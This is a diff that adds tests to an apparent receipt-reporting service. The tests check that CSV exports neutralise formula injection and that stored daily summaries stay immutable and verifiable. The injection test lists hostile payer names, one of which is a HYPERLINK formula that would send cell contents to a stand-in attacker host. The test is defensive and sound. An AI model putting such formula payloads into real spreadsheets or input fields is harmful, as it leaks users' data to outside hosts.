@@ -143,3 +143,74 @@ t.test('the CSV opens in LibreOffice: headless conversion to xlsx keeps the Viet
   }
   t.notMatch(stdout, /Ã|Ä|áº/, 'no mojibake');
 });
+
+t.test('CSV injection: a payer named =HYPERLINK(…) reaches LibreOffice as text, numbers stay numbers', async (t) => {
+  const clock = new TestClock(dayOfThisYear('05-20'));
+  const ctx = await testApp('postgres', { clock: clock.now });
+  const dir = await mkdtemp(path.join(tmpdir(), 'receipts-lo-inject-'));
+  t.teardown(async () => {
+    await ctx.close();
+    await rm(dir, { recursive: true, force: true });
+  });
+  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"Xem")', '+1+2', '-3+4', '@SUM(1,2)'];
+  for (const name of attacks) t.equal((await issue(ctx, { ...demoReceipt, payer: { name } })).statusCode, 201, name);
+  clock.set(dayOfThisYear('05-21'));
+  const csv = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${dayOfThisYear('05-20')}`, headers: { ...auth(ctx.keys.accountant), accept: 'text/csv' } });
+  t.equal(csv.statusCode, 200);
+  const rows = parse(csv.body, { bom: true }) as string[][];
+  t.same(rows.slice(1).map((r) => r[7]), attacks.map((a) => `'${a}`), 'every text cell that would start a formula is prefixed');
+  await writeFile(path.join(dir, 'summary.csv'), csv.rawPayload);
+  // LibreOffice's CSV import with "Evaluate formulas" on (token 13): the most dangerous way to open it.
+  await run('soffice', ['--headless', `-env:UserInstallation=file://${dir}/profile`, '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true',
+    '--convert-to', 'xlsx', '--outdir', dir, path.join(dir, 'summary.csv')], { timeout: 120_000 });
+  const read = async (part: string) => (await run('python3', ['-c', 'import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())', path.join(dir, 'summary.xlsx'), part])).stdout;
+  const sheet = await read('xl/worksheets/sheet1.xml');
+  t.notMatch(sheet, /<f>|<f /, 'no cell is a formula');
+  t.match(await read('xl/sharedStrings.xml'), /HYPERLINK\(&quot;http:\/\/evil\.example/, 'the name is there, as text');
+  t.match(sheet, /<c r="K2" s="\d+" t="n"><v>400000<\/v><\/c>/, 'amounts are numbers');
+});
+
+t.test('the daily summary: only for an ended day, stored and immutable, complete', async (t) => {
+  const clock = new TestClock(dayOfThisYear('05-20'));
+  const ctx = await testApp('postgres', { clock: clock.now });
+  t.teardown(() => ctx.close());
+  await issueDay(ctx);
+  const day = clock.date;
+  for (const [query, accept] of [[`date=${day}`, 'application/xml'], [`date=${day}`, 'text/csv'], [`date=${dayOfThisYear('05-30')}`, 'application/xml']] as const) {
+    const early = await ctx.app.inject({ url: `/v1/reports/daily-summary?${query}`, headers: { ...auth(ctx.keys.accountant), accept } });
+    t.equal(early.statusCode, 422, `${query} (${accept})`);
+    t.match(early.json(), { code: 'DAY_NOT_ENDED', detail: /is made once the day has ended \(Vietnam time\); today is/ });
+  }
+  t.equal((await ctx.database.db.query('SELECT count(*)::int AS n FROM daily_summaries')).rows[0]!.n, 0, 'nothing was made early');
+
+  clock.set(dayOfThisYear('05-21'), '00:00:01');
+  const first = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}`, headers: auth(ctx.keys.accountant) });
+  t.equal(first.statusCode, 200);
+  // Later: the department is renamed, an hour passes; the summary is the one made, byte for byte.
+  await ctx.app.inject({ method: 'PATCH', url: '/v1/departments/STP', headers: auth(ctx.keys.admin), payload: { name: 'Sở Tư pháp (tên mới)' } });
+  clock.advance(3_600_000);
+  const again = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}`, headers: auth(ctx.keys.auditor) });
+  t.ok(again.rawPayload.equals(first.rawPayload), 'served as stored');
+  const [both] = await Promise.all([
+    ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=STP`, headers: auth(ctx.keys.auditor) }),
+    ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=STP`, headers: auth(ctx.keys.accountant) }),
+  ]);
+  t.equal(both!.statusCode, 200);
+  t.same((await ctx.database.db.query(`SELECT department_code, receipts FROM daily_summaries ORDER BY department_code`)).rows,
+    [{ department_code: '', receipts: 3 }, { department_code: 'STP', receipts: 2 }], 'one stored summary each, made once');
+  await t.rejects(ctx.database.db.query('UPDATE daily_summaries SET receipts = 4'), /refused/, 'stored summaries cannot be edited');
+  await t.rejects(ctx.database.db.query('DELETE FROM daily_summaries'), /refused/, 'or removed');
+
+  // Completeness: a receipt of the day removed behind the guards, and the summary no longer matches the day.
+  const verify = () => ctx.app.inject({ method: 'POST', url: '/v1/verify', headers: { ...auth(ctx.keys.auditor), 'content-type': 'application/xml' }, payload: first.rawPayload });
+  t.equal((await verify()).json().valid, true);
+  await ctx.database.db.transaction(async (tx) => {
+    await tx.query('SET LOCAL session_replication_role = replica');
+    await tx.query(`DELETE FROM receipts WHERE department_code = 'SNNMT'`);
+  });
+  const after = (await verify()).json();
+  t.equal(after.valid, false);
+  t.match(after.checks.find((c: { name: string }) => c.name === 'record-match'), { passed: false, reason: /^the summary lists receipt EBL01 \d\dTNM 1, which is not a receipt of / });
+  const audit = (await ctx.app.inject({ method: 'POST', url: '/v1/audit/verify-period', headers: auth(ctx.keys.auditor), payload: { from: day, to: day } })).json();
+  t.match(audit.findings.find((f: { type: string }) => f.type === 'daily-summary'), { label: `summary ${day} all departments`, problems: [/^receipts: the summary lists receipt EBL01 \d\dTNM 1, which is not a receipt of/] });
+});
